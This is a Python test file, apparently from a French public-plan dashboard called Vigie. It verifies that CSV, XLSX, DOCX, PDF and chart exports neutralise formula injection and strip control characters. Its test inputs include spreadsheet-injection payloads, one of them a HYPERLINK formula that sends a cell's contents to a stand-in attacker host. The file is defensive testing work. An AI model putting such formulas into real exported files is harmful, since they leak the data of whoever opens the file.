"""Every CSV and XLSX Vigie writes goes through the one output rule of plans/outputs.py, and no stored text breaks
the template, the brief's DOCX, its PDF or its Markdown, or a chart.

One parametrised test sends hostile cells through each writer (table downloads, charts' data in the report pack and
in ``export_charts``, the « Recoupements » CSV, the import template) and reads the file back: no cell is a formula,
formula-like texts are neutralised (CSV: a leading apostrophe; XLSX: a string cell with quotePrefix, no visible
apostrophe), control characters are gone, the rest of each text is intact, and the number -5 stays a number.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import shutil
import subprocess
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import openpyxl
import pandas as pd
import plotly.graph_objects as go
import pytest
from openpyxl.utils.escape import unescape
from sqlalchemy import select, update

from plans import outputs
from plans import schema as s
from plans.outputs import clean_text, formula_like

PLAN = "pna-2024-2027"
HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")', "=1+1", "+33 1 23 45 67 89", "-5", "-2+3",
           "@SUM(A1:A9)", "\tcmd", "\rcmd", "Titre\x01 piégé\x7f", "bad\x00\x1b[31m\ufffe\uffff end", "a=b",
           "MIPROF", "ligne 1\nligne 2", "tab\tdedans"]
LONE_SURROGATE = "lone\ud800 surrogate"  # cannot be stored (UTF-8); can reach an object column of a frame
CONTROL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f\ufffe\uffff\ud800-\udfff]")


def _frame() -> pd.DataFrame:
    texts = [*HOSTILE, LONE_SURROGATE]
    n = len(texts)
    return pd.DataFrame({"=cmd": pd.Series(texts, dtype=object), "nombre": [-5] * n, "décimal": [-2.5] * n,
                         "jour": [dt.date(2024, 3, 21)] * n})


# ---------------------------------------------------------------- the writers


@dataclass
class Written:
    kind: str  # csv | xlsx
    data: bytes
    texts: list[str]  # the hostile texts, in order, as written in the file's first column (xlsx: one sheet)
    sheet: str | None = None
    first_row: int = 2  # xlsx: the row of the first hostile text
    column: int = 1  # xlsx: its column
    numbers: bool = True  # the -5 / -2.5 / date columns follow the texts


def _table_csv(tmp_path, request) -> Written:
    from dashboard.exports import to_csv_bytes

    return Written("csv", to_csv_bytes(_frame()), list(_frame()["=cmd"]))


def _table_xlsx(tmp_path, request) -> Written:
    from dashboard.exports import to_xlsx_bytes

    return Written("xlsx", to_xlsx_bytes(_frame(), sheet_name="=Mesures\x01"), list(_frame()["=cmd"]))


def _plans_csv(tmp_path, request) -> Written:
    return Written("csv", outputs.to_csv_bytes(_frame()), list(_frame()["=cmd"]))


def _plans_xlsx(tmp_path, request) -> Written:
    return Written("xlsx", outputs.to_xlsx_bytes(_frame()), list(_frame()["=cmd"]))


def _overlaps_csv(tmp_path, request) -> Written:
    from dashboard import overlaps_data as od

    return Written("csv", od.csv_bytes(_frame(), "fr"), list(_frame()["=cmd"]))


def _charts(monkeypatch) -> list:
    from dashboard.charts import pack

    monkeypatch.setattr(pack, "render_charts", lambda charts, formats=(): {})  # the data only, no browser
    return [pack.Chart(key="hostile", title="=titre", figure=go.Figure(), table=_frame())]


def _pack_csv(tmp_path, request) -> Written:
    from dashboard.charts import pack

    charts = _charts(request.getfixturevalue("monkeypatch"))
    with zipfile.ZipFile(io.BytesIO(pack.chart_pack(charts, formats=[], readme="Plan\x01"))) as z:
        assert "\x01" not in z.read("LISEZMOI.txt").decode()
        return Written("csv", z.read("hostile.csv"), list(_frame()["=cmd"]))


def _export_charts_csv(tmp_path, request) -> Written:
    from dashboard.charts import pack

    charts = _charts(request.getfixturevalue("monkeypatch"))
    (path,) = pack.export_charts(charts, tmp_path / "charts", formats=[])
    return Written("csv", path.read_bytes(), list(_frame()["=cmd"]))


def _hostile_store(engine) -> dict[str, str]:
    """Stored titles of the plan's first measures set to the hostile texts (straight into the database, as an
    older import or a hand edit could have left them); plan title with a control character. {ref: title}."""
    with engine.begin() as conn:
        refs = conn.execute(select(s.measures.c.ref).where(s.measures.c.plan_id == PLAN)
                            .order_by(s.measures.c.id)).scalars().all()
        titles = dict(zip(refs, HOSTILE, strict=False))
        for ref, title in titles.items():
            conn.execute(update(s.measures).where(s.measures.c.plan_id == PLAN, s.measures.c.ref == ref)
                         .values(title_fr=title))
        conn.execute(update(s.plans).where(s.plans.c.id == PLAN).values(title_fr="Plan\x01 national =piège",
                                                                        short_title="PNA\x02-TEH"))
    return titles


def _template(tmp_path, request) -> Written:
    from loaders.template import write_template

    engine = request.getfixturevalue("sqlite_seeded")
    titles = _hostile_store(engine)
    out = write_template(engine, PLAN, tmp_path / "modele.xlsx", today=dt.date(2025, 6, 30))
    ws = openpyxl.load_workbook(out)["Mesures"]
    assert "Plan national =piège" in ws["A1"].value
    row = next(r for r in range(5, ws.max_row + 1) if ws.cell(r, 1).value == next(iter(titles)))
    return Written("xlsx", out.read_bytes(), list(titles.values()), sheet="Mesures", first_row=row, column=2,
                   numbers=False)


WRITERS: dict[str, Callable[..., Written]] = {
    "table-csv": _table_csv, "table-xlsx": _table_xlsx, "plans-csv": _plans_csv, "plans-xlsx": _plans_xlsx,
    "overlaps-csv": _overlaps_csv, "pack-csv": _pack_csv, "export-charts-csv": _export_charts_csv,
    "template-xlsx": _template,
}


# ---------------------------------------------------------------- reading back


def _check_csv(w: Written) -> None:
    text = w.data.decode("utf-8")  # strict: a lone surrogate would not even encode
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text[1:], newline=""), delimiter=";"))
    assert rows[0][0] == "'=cmd"
    got = [r[0] for r in rows[1:]]
    want = [clean_text(t) for t in w.texts]
    assert got == ["'" + t if formula_like(t) else t for t in want]
    for row in rows:
        for field in row:
            assert not CONTROL.search(field), field
    if w.numbers:
        assert {(r[1], r[2], r[3]) for r in rows[1:]} == {("-5", "-2,5", "2024-03-21")}  # numbers are not text


def _check_xlsx(w: Written) -> None:
    wb = openpyxl.load_workbook(io.BytesIO(w.data))
    for ws in wb.worksheets:
        assert not CONTROL.search(ws.title)
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    value = unescape(cell.value)
                    assert not CONTROL.search(value), (ws.title, cell.coordinate)
                    assert not value.startswith("'"), (ws.title, cell.coordinate)  # never a visible apostrophe
                    if formula_like(value):
                        assert cell.data_type == "s" and cell.quotePrefix, (ws.title, cell.coordinate)
    ws = wb[w.sheet] if w.sheet else wb.worksheets[0]
    if w.sheet is None:
        assert ws["A1"].value == "=cmd" and ws["A1"].quotePrefix
    cells = [ws.cell(w.first_row + i, w.column) for i in range(len(w.texts))]
    assert [unescape(c.value) for c in cells] == [clean_text(t) for t in w.texts]  # as stored, less the controls
    assert all(c.data_type == "s" for c in cells)
    if w.numbers:
        for r in range(w.first_row, w.first_row + len(w.texts)):
            number, decimal, day = (ws.cell(r, w.column + k) for k in (1, 2, 3))
            assert (number.value, number.data_type, number.quotePrefix) == (-5, "n", False)
            assert (decimal.value, decimal.data_type) == (-2.5, "n")
            assert day.is_date and day.value.date() == dt.date(2024, 3, 21)


@pytest.mark.parametrize("writer", list(WRITERS))
def test_every_writer_neutralises_hostile_cells(writer, tmp_path, request):
    written = WRITERS[writer](tmp_path, request)
    (_check_csv if written.kind == "csv" else _check_xlsx)(written)


def test_template_with_formula_like_titles_imports_back_unchanged(sqlite_seeded, tmp_path):
    """The template keeps a title « =HYPERLINK(…) » as the text it is (no apostrophe added): imported back
    unchanged, no title is recorded as changed."""
    from loaders import import_file
    from loaders.template import write_template
    from plans.access import CLI

    with sqlite_seeded.begin() as conn:
        for ref, title in (("F01", '=HYPERLINK("http://x","y")'), ("F02", "-5"), ("F03", "+33 1 23")):
            conn.execute(update(s.measures).where(s.measures.c.plan_id == PLAN, s.measures.c.ref == ref)
                         .values(title_fr=title))
    tpl = write_template(sqlite_seeded, PLAN, tmp_path / "modele.xlsx", today=dt.date(2025, 6, 30))
    report = import_file(tpl, PLAN, sqlite_seeded, actor=CLI)
    assert report.outcome == "imported", [i.to_dict() for i in report.errors]
    assert report.counts["measures_changed"] == 0
    with sqlite_seeded.connect() as conn:
        assert conn.execute(select(s.measure_revisions)).all() == []


# ---------------------------------------------------------------- the rule itself


@pytest.mark.parametrize(("raw", "csv_text"), [
    ("=1+1", "'=1+1"), ("-5", "'-5"), ("\tcmd", "'\tcmd"), ("\rcmd", "'\rcmd"), ("a\x01=b", "a=b"),
    ("\x01=cmd", "'=cmd"),  # the control character goes first, then the text is neutralised
    (-5, "-5"), (-2.5, "-2,5"), (dt.date(2024, 3, 21), "2024-03-21"), (None, ""), (float("nan"), ""),
    (float("-inf"), "'-inf"), (True, "True"), (["=a", "b"], "'=a → b"), ("lone\ud800", "lone"),
])
def test_csv_text_rule(raw, csv_text):
    assert outputs.csv_text(outputs.cell_value(raw)) == csv_text


def test_clean_keeps_tab_and_line_ends_and_every_other_character():
    text = "Réf. « F01 »\tligne\r\nsuite — 5 € ✓ 𝄞 \u00a0\u2060"
    assert clean_text(text) == text
    assert clean_text("".join(map(chr, range(32))) + "\x7f\ufffe\uffff\ud800") == "\t\n\r"
    assert outputs.clean({"k\x01": ["a\x02", ("b\x03", 1)]}) == {"k": ["a", ("b", 1)]}


def test_no_writer_bypasses_the_encoder():
    """CSV and XLSX files are only written in plans/outputs.py (and through it): no other `to_csv`, `to_excel`,
    xlsxwriter or openpyxl Workbook in the three layers."""
    root = Path(__file__).resolve().parents[1]
    pattern = re.compile(r"\.to_csv\(|\.to_excel\(|ExcelWriter|xlsxwriter|\bWorkbook\(|csv\.writer|\bodf")
    allowed = {"plans/outputs.py", "loaders/template.py"}  # the template: openpyxl cells via outputs.write_cell
    offenders = [f"{p.relative_to(root)}:{i}" for layer in ("plans", "loaders", "dashboard")
                 for p in (root / layer).rglob("*.py") if p.relative_to(root).as_posix() not in allowed
                 for i, line in enumerate(p.read_text(encoding="utf-8").splitlines(), start=1)
                 if pattern.search(line)]
    assert not offenders, offenders
    template = (root / "loaders" / "template.py").read_text(encoding="utf-8")
    # a value put straight in a cell: ws.cell(row, column, value), ws["A1"] = …, ws.append(…), cell.value = …
    direct = re.compile(r"\.cell\([^()]*,[^()]*,|\bws\[[^\]]+\]\s*=[^=]|\.append\(|\.value\s*=[^=]")
    assert not [line for line in template.splitlines() if direct.search(line)], "template cells: use write_cell"


# ---------------------------------------------------------------- the brief: DOCX, PDF, Markdown


def _docx_text(docx: bytes) -> str:
    from docx import Document

    doc = Document(io.BytesIO(docx))  # opens: the XML is valid
    parts = [p.text for p in doc.paragraphs]
    parts += [c.text for t in doc.tables for r in t.rows for c in r.cells]
    parts += [p.text for p in doc.sections[0].footer.paragraphs]
    return "\n".join(parts)


def test_brief_docx_and_markdown_survive_control_characters(sqlite_seeded):
    from dashboard.brief import build

    _hostile_store(sqlite_seeded)
    brief = build(sqlite_seeded, PLAN, with_charts=False, as_of=dt.date(2025, 12, 31))
    text = _docx_text(brief.docx())
    assert "Note de réunion — PNA-TEH" in text  # the plan's short title, without its \x02
    assert "Titre piégé" in text and '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")' in text  # F07, F01
    assert not CONTROL.search(text)
    md = brief.markdown()
    assert "Titre piégé" in md and not CONTROL.search(md)


def test_a_figure_is_cleaned_before_it_is_drawn():
    """The one drawing point (dashboard.charts.browser) cleans a figure's texts, numpy arrays of labels too."""
    import numpy as np

    from dashboard.charts.browser import _cleaned

    fig = go.Figure(go.Bar(x=np.array(["Titre\x01 piégé", "b"], dtype=object), y=[1, 2]),
                    layout={"title": {"text": "PNA\x02-TEH"}})
    out = _cleaned(fig)
    assert list(out.data[0].x) == ["Titre piégé", "b"] and out.layout.title.text == "PNA-TEH"
    plain = go.Figure(go.Bar(x=["a"], y=[1]))
    assert _cleaned(plain) is plain


@pytest.mark.slow
def test_brief_with_charts_docx_and_pdf_with_control_characters_in_titles(sqlite_seeded):
    """The whole brief as the page and the CLI make it (charts drawn by Chromium, the DOCX, its PDF by
    LibreOffice) with a \x02 in the plan's short title (on every chart) and a \x01 in a measure's title."""
    from dashboard.brief import documents, find_soffice

    if not find_soffice():
        pytest.skip("LibreOffice (soffice) not installed")
    _hostile_store(sqlite_seeded)
    made = documents(sqlite_seeded, PLAN, with_charts=True, pdf=True, as_of=dt.date(2025, 12, 31))
    assert made.brief.charts and all(png.startswith(b"\x89PNG") for png in made.brief.charts.values())
    assert made.pdf_error is None and made.pdf and made.pdf.startswith(b"%PDF")
    assert "Titre piégé" in _docx_text(made.docx)
    pdftotext = shutil.which("pdftotext")
    if pdftotext:  # poppler-utils (make apt installs it)
        shown = subprocess.run([pdftotext, "-", "-"], input=made.pdf, capture_output=True, check=True, timeout=60)
        assert "Titre piégé" in shown.stdout.decode("utf-8")


@pytest.mark.slow
def test_chart_pack_with_control_characters_in_titles(sqlite_seeded):
    """The report pack: every chart drawn (the plan's short title holds a \x02), every SVG is valid XML."""
    from xml.dom import minidom

    from dashboard.charts import pack

    _hostile_store(sqlite_seeded)
    charts = pack.plan_charts(sqlite_seeded, PLAN, dt.date(2025, 12, 31))
    raw = pack.chart_pack(charts, ["svg"], readme=pack.pack_readme("PNA\x02-TEH", dt.date(2025, 12, 31)))
    with zipfile.ZipFile(io.BytesIO(raw)) as z:
        svgs = [n for n in z.namelist() if n.endswith(".svg")]
        assert len(svgs) == len(charts)
        for name in svgs:
            minidom.parseString(z.read(name))  # our own output
        assert "\x02" not in z.read("LISEZMOI.txt").decode("utf-8")


@pytest.mark.slow
def test_libreoffice_shows_texts_as_typed_and_numbers_as_numbers(tmp_path):
    """LibreOffice opens the XLSX export: « =1+1 » is shown as typed (not 2), the text « -5 » and the number -5
    are both shown « -5 » (no apostrophe)."""
    from dashboard.brief.pdf import find_soffice
    from dashboard.exports import to_xlsx_bytes

    soffice = find_soffice()
    if not soffice:
        pytest.skip("LibreOffice (soffice) not installed")
    df = pd.DataFrame({"texte": ["=1+1", "-5", '=HYPERLINK("http://x","y")', "@SUM(A1)"], "nombre": [-5, 1, 2, 3]})
    (tmp_path / "t.xlsx").write_bytes(to_xlsx_bytes(df, sheet_name="Feuille"))
    subprocess.run([soffice, f"-env:UserInstallation=file://{tmp_path / 'profile'}", "--headless", "--norestore",
                    "--convert-to", "csv:Text - txt - csv (StarCalc):59,34,76,1", "--outdir", str(tmp_path),
                    str(tmp_path / "t.xlsx")], check=True, capture_output=True, timeout=120)
    rows = list(csv.reader(io.StringIO((tmp_path / "t.csv").read_text(encoding="utf-8")), delimiter=";"))
    assert rows == [["texte", "nombre"], ["=1+1", "-5"], ["-5", "1"], ['=HYPERLINK("http://x","y")', "2"],
                    ["@SUM(A1)", "3"]]
